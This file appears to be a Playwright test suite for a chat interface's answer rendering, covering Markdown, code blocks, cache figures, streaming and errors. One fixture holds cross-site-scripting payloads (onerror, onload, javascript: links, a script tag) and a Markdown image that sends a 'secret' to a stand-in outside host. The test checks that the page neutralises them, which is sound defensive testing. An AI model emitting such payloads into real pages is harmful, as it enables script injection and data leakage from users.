"""What the page makes of answers: Markdown, hostile Markdown, bursts of tokens, errors. The server is scripted."""

import re

import pytest
from playwright.sync_api import Page, expect

from tests.web.conftest import Visit
from tests.web.scripted import ScriptedServer
from tests.web.visitor import ask, bar_in_words, figures, has_ended

HOSTILE = """<img src=x onerror="window.hit = 1"><script>window.hit = 2</script>

![chart](https://elsewhere.example/leak.png?said=secret)

[a link](https://elsewhere.example/) and [a trap](javascript:window.hit=3) <svg/onload=window.hit=4>

<a href="javascript:window.hit=5">click</a> <form action="https://elsewhere.example"><button>go</button></form>
"""


def test_markdown(scripted: tuple[Page, ScriptedServer]) -> None:
    page, own = scripted
    turn = ask(page, "List")
    own.answer("# Bread\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- **bold** `co", "de`\n\n```py\nx = 1\n```\n")
    has_ended(turn)
    answer = turn.get_by_test_id("answer")
    expect(answer.get_by_role("heading", name="Bread")).to_be_visible()
    expect(answer.get_by_role("cell")).to_have_text(["1", "2"])
    expect(answer.locator("li code")).to_have_text("code")
    expect(answer.locator("pre")).to_have_text("x = 1")


def test_code_is_coloured_named_and_copied(scripted: tuple[Page, ScriptedServer]) -> None:
    page, own = scripted
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    turn = ask(page, "Code")
    own.answer("3. three\n\n```python\ndef f():\n    return '<b>'\n```\n\n```brainfuck\n+<-\n```\n")
    has_ended(turn)
    code = turn.locator(".code")
    expect(code.locator(".code-head span")).to_have_text(["python", "brainfuck"])
    expect(code.first.locator(".hljs-keyword")).to_have_text(["def", "return"])
    keyword, plain = (
        code.first.locator(part).first.evaluate("part => getComputedStyle(part).color")
        for part in (".hljs-keyword", "code")
    )
    assert keyword != plain
    code.first.get_by_role("button", name="Copy the code").click()
    expect(code.first.get_by_role("button")).to_have_text("Copied")
    assert page.evaluate("navigator.clipboard.readText()") == "def f():\n    return '<b>'"
    turn.get_by_role("button", name="Copy the answer").click()
    expect(turn.get_by_role("button", name="Copied")).to_be_visible()
    assert page.evaluate("navigator.clipboard.readText()").startswith("3. three")
    expect(turn.locator("ol")).to_have_attribute("start", "3")


def test_hostile_markdown_stays_text(scripted: tuple[Page, ScriptedServer]) -> None:
    page, own = scripted
    turn = ask(page, "Do your worst")
    own.answer(*(HOSTILE[start : start + 7] for start in range(0, len(HOSTILE), 7)))
    has_ended(turn)
    answer = turn.get_by_test_id("answer")
    expect(answer.locator("img, script, svg, form, button, iframe, [onerror], [onload], [style]")).to_have_count(0)
    assert page.evaluate("window.hit") is None
    expect(answer).to_contain_text("<script>window.hit = 2</script>")
    expect(answer.locator(".image")).to_have_text("chart")
    links = answer.locator("a[href]")
    expect(links).to_have_count(1)
    expect(links).to_have_attribute("href", "https://elsewhere.example/")
    expect(links).to_have_attribute("rel", re.compile("noopener"))
    expect(links).to_have_attribute("target", "_blank")


def test_cache_bar(scripted: tuple[Page, ScriptedServer]) -> None:
    page, own = scripted
    turn = ask(page, "Hello")
    own.begin()
    by = {"system": 900, "history": 60, "shared": 0}
    own.say("x.cache", prompt_tokens=1000, cached_tokens=960, by=by, est_ttft_saved_ms=310)
    expect(turn.get_by_role("img")).to_be_visible()
    own.say("response.output_text.delta", delta="Hi.")
    timing = {"queue_ms": 1, "prefill_ms": 9, "ttft_ms": 12.4, "decode_ms": 0, "tokens_per_s": None}
    usage = {
        "input_tokens": 1000,
        "input_tokens_details": {"cached_tokens": 980},
        "output_tokens": 1,
        "total_tokens": 1001,
        "x_timing": timing,
    }
    own.say("response.completed", response={"id": "r", "usage": usage})
    has_ended(turn)
    assert figures(turn) == {
        "First token": "12 ms",
        "In": "1,000",
        "Out": "1",
        "From cache": "980 (98 %)",
        "Saved about": "310 ms",
    }
    assert bar_in_words(turn) == (980, 1000)
    expect(turn.locator(".cache-legend li")).to_have_text(
        ["system prompt 900", "this chat 60", "shared 20", "computed 20"]
    )
    widths = page.locator(".share").evaluate_all("parts => parts.map(part => part.getBoundingClientRect().width)")
    assert widths[0] > 10 * widths[1] > 20 * widths[2] * 0.9 and widths[2] == pytest.approx(widths[3], abs=1)


def test_a_burst_is_drawn_at_most_once_a_frame(scripted: tuple[Page, ScriptedServer]) -> None:
    page, own = scripted
    turn = ask(page, "Fast")
    own.begin()
    own.say("response.output_text.delta", delta="0 ")
    expect(turn.get_by_test_id("answer")).to_have_text("0")
    page.evaluate(
        """() => {
            window.drawings = 0; window.frames = 0;
            const answer = document.querySelector('.answer');
            new MutationObserver(() => window.drawings++)
                .observe(answer, { childList: true, subtree: true, characterData: true });
            const count = () => { window.frames++; requestAnimationFrame(count); };
            requestAnimationFrame(count);
        }"""
    )
    for number in range(1, 600):
        own.say("response.output_text.delta", delta=f"{number} ")
    own.finish()
    has_ended(turn)
    expect(turn.get_by_test_id("answer")).to_have_text(" ".join(map(str, range(600))))
    drawings, frames = page.evaluate("[window.drawings, window.frames]")
    assert 1 <= drawings <= frames + 1
    assert drawings < 600


def test_first_token_does_not_wait_for_a_frame(scripted: tuple[Page, ScriptedServer]) -> None:
    page, own = scripted
    turn = ask(page, "Now")
    own.begin()
    expect(turn.locator(".waiting")).to_be_visible()
    # A page in the background gets no frames; the first token must be there all the same.
    page.evaluate("window.requestAnimationFrame = () => 0")
    own.say("response.output_text.delta", delta="At once.")
    expect(turn.get_by_test_id("answer")).to_have_text("At once.")


def test_scrolling_up_lets_go(scripted: tuple[Page, ScriptedServer]) -> None:
    page, own = scripted
    turn = ask(page, "Much")
    own.begin()
    own.say("response.output_text.delta", delta="line\n\n" * 80)
    expect(turn.locator("p", has_text="line")).to_have_count(80)
    box = page.get_by_test_id("thread")
    to_end = page.get_by_role("button", name="To the end")
    distance = "box => box.scrollHeight - box.clientHeight - box.scrollTop"
    expect(to_end).to_have_count(0)
    assert box.evaluate(distance) <= 1

    box.hover()
    page.mouse.wheel(0, -300)
    expect(to_end).to_be_visible()
    own.say("response.output_text.delta", delta="more\n\n" * 40)
    expect(turn.locator("p", has_text="more")).to_have_count(40)
    assert box.evaluate(distance) > 300
    to_end.click()
    expect(to_end).to_have_count(0)
    own.say("response.output_text.delta", delta="end")
    expect(turn.locator("p", has_text="end")).to_be_in_viewport()


def test_forgotten_response_is_sent_again_whole(scripted: tuple[Page, ScriptedServer]) -> None:
    page, own = scripted
    first = ask(page, "One")
    own.answer("A")
    has_ended(first)
    second = ask(page, "Two")
    error = {"type": "invalid_request_error", "code": "previous_response_not_found", "message": "gone", "param": None}
    own.say("error", status=404, error=error)
    expect(second.locator(".waiting")).to_be_visible()
    own.answer("B")
    has_ended(second)
    requests = [request for request in own.requests if request["type"] == "response.create"]
    assert requests[1]["previous_response_id"] == "resp_1"
    assert [item["content"] for item in requests[2]["input"]] == ["One", "A", "Two"]


def test_failure_can_be_tried_again(scripted: tuple[Page, ScriptedServer]) -> None:
    page, own = scripted
    turn = ask(page, "One")
    own.begin()
    error = {"code": "engine_error", "message": "The engine stopped answering"}
    own.say("response.failed", response={"id": "r", "error": error})
    has_ended(turn, "failed")
    expect(turn.get_by_role("group", name="Problem")).to_contain_text("The engine stopped answering. Try again.")
    turn.get_by_role("button", name="Try again").click()
    expect(page.locator(".waiting")).to_be_visible()
    own.answer("Here.")
    has_ended(page.locator(".turn"))


def test_reduced_motion(visit: Visit) -> None:
    page = visit.tab()
    own = ScriptedServer(page)
    page.emulate_media(reduced_motion="reduce")
    page.goto(visit.url)
    expect(page.get_by_test_id("model")).to_have_text("scripted")
    ask(page, "Quietly")
    own.begin()
    assert page.locator(".roots i").first.evaluate("root => getComputedStyle(root).animationName") == "none"
